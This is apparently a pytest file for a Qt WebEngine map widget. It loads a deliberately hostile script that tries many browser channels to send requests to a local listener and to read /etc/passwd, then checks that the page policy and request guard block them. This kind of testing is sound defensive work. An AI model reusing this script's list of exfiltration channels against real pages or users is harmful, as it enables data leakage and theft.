"""Nothing leaves: a hostile page tries, and a listener on this machine must see none.

The page's own policy and the request guard are each tried with the other one off. A
fourth case with both off shows that the listener would have seen something.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from PySide6.QtNetwork import QHostAddress, QTcpServer, QUdpSocket
from PySide6.QtWidgets import QWidget
from pytestqt.qtbot import QtBot

from aliquot.widgets.map.documents import Documents
from aliquot.widgets.map.page import with_policy
from aliquot.widgets.map.panel import MapPanel

ATTACK = """
"use strict";
const at = "http://127.0.0.1:PORT/";
const tries = [];
const settled = (what) => new Promise((resolve) => {
  what.onload = what.onerror = what.onclose = resolve;
});
const image = new Image();
tries.push(settled(image));
image.src = at + "image.png";
for (const [tag, key] of [["script", "src"], ["iframe", "src"], ["object", "data"]]) {
  const element = document.createElement(tag);
  tries.push(settled(element));
  element[key] = at + tag;
  document.body.append(element);
}
for (const rel of ["stylesheet", "prefetch", "preload", "icon"]) {
  const link = document.createElement("link");
  Object.assign(link, { rel, href: at + rel, as: "image" });
  document.head.append(link);
}
tries.push(fetch(at + "fetch").catch(() => 0));
tries.push(fetch(at + "opaque", { mode: "no-cors" }).catch(() => 0));
tries.push(fetch("file:///etc/passwd").then(() => (stolen = true)).catch(() => 0));
let stolen = false;
navigator.sendBeacon(at + "beacon", "x");
try { tries.push(settled(new WebSocket(at.replace("http", "ws")))); } catch {}
try { tries.push(settled(new EventSource(at + "events"))); } catch {}
try { new Worker(at + "worker.js"); } catch {}
open(at + "window");
const form = document.createElement("form");
Object.assign(form, { action: at + "form", method: "post" });
document.body.append(form);
form.submit();
const limit = new Promise((resolve) => setTimeout(resolve, 800));
Promise.race([Promise.all(tries), limit]).then(() => {
  location.href = at + "navigate";
  setTimeout(() => { document.title = stolen ? "stolen" : "tried"; }, 300);
});
"""
PAGE = """<!DOCTYPE html><html><head><title>page</title></head><body>
<script>document.body.dataset.inline = "ran";</script>
<script src="aliquot://map/attack.js"></script>
</body></html>"""


class Listener:
    """A TCP and a UDP port on this machine that count what comes."""

    def __init__(self) -> None:
        self.tcp = QTcpServer()
        assert self.tcp.listen(QHostAddress(QHostAddress.SpecialAddress.LocalHost))
        self.udp = QUdpSocket()
        assert self.udp.bind(QHostAddress(QHostAddress.SpecialAddress.LocalHost), 0)
        self.seen = 0
        self.tcp.newConnection.connect(self._connected)
        self.udp.readyRead.connect(self._connected)

    def _connected(self) -> None:
        self.seen += 1
        while waiting := self.tcp.nextPendingConnection():
            waiting.abort()


@pytest.fixture
def listener(qapp: object) -> Iterator[Listener]:
    made = Listener()
    yield made
    made.tcp.close()
    made.udp.close()


Run = Callable[..., Any]


@pytest.fixture
def attack(qtbot: QtBot, web_engine: None, listener: Listener) -> Run:
    """Load the hostile page with some guards on; returns the engine's guard and page
    title, and whether inline script ran."""
    from aliquot.widgets.map.bridge import MapBridge
    from aliquot.widgets.map.engine import MapEngine

    def run(*, policy: bool, guarded: bool) -> tuple[int, str, bool]:
        script = ATTACK.replace("PORT", str(listener.tcp.serverPort()))
        html = with_policy(PAGE) if policy else PAGE
        if policy:  # the hash of the inline script is not one of ours
            html = re.sub(r" 'sha256-[^']+'", "", html)
        served = Documents(
            made={"attack.html": html.encode(), "attack.js": script.encode()}
        )
        parent = QWidget()
        qtbot.addWidget(parent)
        bridge = MapBridge(parent)
        engine = MapEngine(served, bridge, parent, guarded=guarded)
        with qtbot.waitSignal(
            engine.page.titleChanged,
            timeout=20_000,
            check_params_cb=lambda title: title in ("tried", "stolen"),
        ):
            engine.load("attack.html")
        with qtbot.waitCallback(timeout=5000) as answer:
            engine.page.runJavaScript("document.body.dataset.inline || ''", answer)
        assert answer.args is not None
        result = (engine.guard.blocked, engine.page.title(), answer.args[0] == "ran")
        engine.shutdown()
        return result

    return run


def test_the_guard_alone_lets_nothing_out(attack: Run, listener: Listener) -> None:
    blocked, title, _ = attack(policy=False, guarded=True)
    assert listener.seen == 0
    assert blocked >= 6
    assert title == "tried"


def test_the_policy_alone_lets_nothing_out(attack: Run, listener: Listener) -> None:
    blocked, title, inline = attack(policy=True, guarded=False)
    assert listener.seen == 0
    assert blocked == 0
    assert title == "tried"
    assert not inline


def test_both_let_nothing_out(attack: Run, listener: Listener) -> None:
    _, title, inline = attack(policy=True, guarded=True)
    assert listener.seen == 0
    assert title == "tried"
    assert not inline


def test_without_either_the_listener_sees_the_attack(
    attack: Run, listener: Listener
) -> None:
    _, title, inline = attack(policy=False, guarded=False)
    assert listener.seen > 0
    assert title == "tried"
    assert inline


def test_a_working_map_asks_for_nothing_outside(
    panel: MapPanel,
    calls: tuple[Any, ...],
    probe: Callable[[MapPanel], dict[str, Any]],
) -> None:
    panel.show_calls(calls)
    panel.select("near")
    panel.zoom_in()
    panel.fit()
    assert probe(panel)["selected"] == "near"
    assert panel.engine is not None
    assert panel.engine.guard.allowed >= 8  # the page, its scripts, styles and base
    assert panel.blocked_requests == 0


def test_sources_of_the_map_hold_no_address(project_root: Path) -> None:
    folders = (project_root / "widgets" / "map", project_root / "resources" / "map")
    files = [file for folder in folders for file in folder.rglob("*.*")]
    texts = [f for f in files if f.suffix in {".py", ".js", ".css", ".json"}]
    assert texts
    for file in texts:
        assert "http://" not in file.read_text(encoding="utf-8"), file.name
        assert "https://" not in file.read_text(encoding="utf-8"), file.name
